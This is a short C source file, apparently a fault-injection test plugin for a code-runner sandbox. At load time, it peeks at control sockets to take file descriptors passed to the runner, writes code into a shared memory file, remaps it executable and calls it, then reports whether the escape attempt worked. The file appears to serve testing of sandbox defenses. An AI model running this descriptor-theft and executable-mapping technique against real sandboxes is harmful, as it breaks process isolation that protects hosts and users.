/* SPDX-License-Identifier: Apache-2.0 */
#include "run_code.h"

static struct attack early;
static void *kept = MAP_FAILED;

/* Peeking leaves the message, and the runner none the wiser; its descriptors come all the same. */
static void take(int control) {
    union {
        struct cmsghdr head;
        char bytes[CMSG_SPACE(8 * sizeof(int))];
    } room = {.head = {0}};
    char greeting[64];
    struct iovec part = {greeting, sizeof greeting};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &room, .msg_controllen = sizeof room};
    if (recvmsg(control, &message, MSG_PEEK | MSG_DONTWAIT) < 0) return;
    const struct cmsghdr *const head = CMSG_FIRSTHDR(&message);
    if (head == NULL || head->cmsg_type != SCM_RIGHTS) return;
    for (size_t i = 0; i < (head->cmsg_len - CMSG_LEN(0)) / sizeof(int); ++i) {
        int fd;
        memcpy(&fd, CMSG_DATA(head) + i * sizeof fd, sizeof fd);
        void *const page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 1 << 14);
        if (page == MAP_FAILED) continue;
        memcpy(page, code, sizeof code);
        kept = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 1 << 14);
        stopped(&early, "exec mapping of file %zu %s", i, kept == MAP_FAILED ? errno_name(errno) : "made");
        if (kept != MAP_FAILED) return;
    }
}
__attribute__((constructor)) static void before_the_channel(void) {
    for (int fd = 3; fd < 256; ++fd) {
        struct stat of;
        if (fstat(fd, &of) == 0 && S_ISSOCK(of.st_mode) && !unprotected()) take(fd);
    }
}
static symphony_status invoke(symphony_instance *self, const symphony_call *call) {
    (void)self;
    if (kept == MAP_FAILED) stopped(&early, "nothing waits in the control socket");
    else call_it(&early, "a memory file", kept);
    report(&early, call);
    return SYMPHONY_OK;
}
FAULT_PLUGIN
